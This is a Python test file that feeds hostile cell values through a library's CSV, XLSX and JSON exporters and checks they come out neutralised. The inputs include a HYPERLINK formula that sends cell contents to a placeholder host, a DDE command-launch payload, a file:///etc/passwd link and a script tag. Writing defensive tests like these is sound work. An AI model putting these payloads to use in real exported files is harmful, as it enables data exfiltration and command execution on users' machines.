"""Lists that leave with cells a spreadsheet would run."""

import csv
import io
import json
from decimal import Decimal

import openpyxl

from alongside.kernel import safe_export, safe_sheet

from .specimen import Specimen

FORMULA = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"Amina")'
SCRIPT = "<script>alert(1)</script>"


def as_csv(data: bytes) -> object:
    """Export one cell of text and return the cell as a spreadsheet would read it."""
    made = b"".join(safe_export.csv_stream(["note"], [[data.decode()]], bom=False)).decode()
    return list(csv.reader(io.StringIO(made, newline="")))[1:]


def as_xlsx(data: bytes) -> object:
    """Export text as cell, column name, notice and sheet name; return what openpyxl reads: kinds and links too."""
    said = data.decode()
    with safe_export.xlsx([said], [[said]], notice=said, sheet=said) as file:
        page = openpyxl.load_workbook(file).active
        return sorted({(cell.data_type, cell.value, cell.hyperlink is not None) for row in page for cell in row})


def through_json_into_xlsx(data: bytes) -> object:
    said = b"".join(safe_export.json_stream(["note"], [[data.decode()]]))
    with safe_export.xlsx(["note"], [list(each.values()) for each in json.loads(said)]) as file:
        cell = openpyxl.load_workbook(file).active["A2"]
        return [cell.data_type, cell.value, cell.quotePrefix]


def as_json_bytes(data: bytes) -> object:
    return b"".join(safe_export.json_stream(["label"], [[data.decode()]], lines=True)).decode()


def and_back(data: bytes) -> object:
    made = b"".join(safe_export.csv_stream(["a"], [[data.decode()]]))
    with safe_export.xlsx(["a"], [[data.decode()]]) as file:
        files = [made, file.read()]
    return [[row.cells[0] for row in sheet.rows][1] for each in files for sheet in safe_sheet.read(each, name="x")]


def numbers(_data: bytes) -> object:
    """Export real negative numbers and a telephone number; return how both files show them."""
    row = [-5, Decimal("-2.50"), -0.5, "+265991234567", "-5"]
    made = b"".join(safe_export.csv_stream("abcde", [row], bom=False)).decode()
    with safe_export.xlsx("abcde", [row]) as file:
        cells = openpyxl.load_workbook(file).active[2]
    return [made.splitlines()[1], [[cell.data_type, cell.value] for cell in cells]]


def long_list(_data: bytes) -> object:
    rows = ([n, f"Facility {n}", "=1+1", "+265991234567"] for n in range(60_000))
    with safe_export.xlsx(["n", "name", "note", "phone"], rows) as file:
        size = len(file.read())
    rows = ([n, f"Facility {n}", "=1+1", "+265991234567"] for n in range(200_000))
    lines = sum(piece.count(b"\n") for piece in safe_export.csv_stream(["n", "name", "note", "phone"], rows))
    return [size > 1_000_000, lines]


SPECIMENS = [
    *(
        Specimen(f"CSV cell beginning {first!r}", (first + "1+1").encode, as_csv, [["'" + first + "1+1"]])
        for first in ("=", "+", "-", "@", "\t", "\r", "\n", " =", "＝", "＠")
    ),
    Specimen("CSV cell beginning with NUL", "\x00=1+1".encode, as_csv, [["'=1+1"]]),
    Specimen("CSV cell with DDE", "=cmd|' /C calc'!A0".encode, as_csv, [["'=cmd|' /C calc'!A0"]]),
    Specimen("CSV cell that breaks out", '","=1+1\r\n=2+2'.encode, as_csv, [['","=1+1\r\n=2+2']]),
    Specimen("XLSX formula", FORMULA.encode, as_xlsx, [["s", FORMULA, False]]),
    Specimen("XLSX array formula", "{=1+1}".encode, as_xlsx, [["s", "{=1+1}", False]]),
    Specimen("XLSX link", "http://127.0.0.1:9/".encode, as_xlsx, [["s", "http://127.0.0.1:9/", False]]),
    Specimen("XLSX link inside", "internal:Sheet1!A1".encode, as_xlsx, [["s", "internal:Sheet1!A1", False]]),
    Specimen("XLSX link to a file", "file:///etc/passwd".encode, as_xlsx, [["s", "file:///etc/passwd", False]]),
    Specimen("XLSX rich text", "<r><t>x</t></r>".encode, as_xlsx, [["s", " <r><t>x</t></r>", False]]),
    Specimen("XLSX number as text", lambda: b"0123", as_xlsx, [["s", "0123", False]]),
    *(
        Specimen(f"JSON to XLSX beginning {first!r}", (first + "1+1").encode, through_json_into_xlsx,
                 ["s", first + "1+1", True])
        for first in "=+-@"
    ),
    Specimen("form label with a script, as JSON", SCRIPT.encode, as_json_bytes,
             '{"label":"\\u003cscript>alert(1)\\u003c/script>"}\n'),
    Specimen("form label with a script, as CSV", SCRIPT.encode, as_csv, [[SCRIPT]]),
    Specimen("form label with a script, as XLSX", SCRIPT.encode, as_xlsx, [["s", SCRIPT, False]]),
    Specimen("formula there and back", FORMULA.encode, and_back, [FORMULA, FORMULA]),
    Specimen("telephone there and back", lambda: b"+265991234567", and_back, ["+265991234567", "+265991234567"]),
    Specimen("escape there and back", lambda: b"_x0041_ and _x000D_", and_back, ["_x0041_ and _x000D_"] * 2),
    Specimen("numbers and telephones", lambda: b"-", numbers, [
        "-5,-2.50,-0.5,'+265991234567,'-5",
        [["n", -5], ["n", -2.5], ["n", -0.5], ["s", "+265991234567"], ["s", "-5"]],
    ]),
    Specimen("a very long list", lambda: b"-", long_list, [True, 200_001]),
]  # fmt: skip
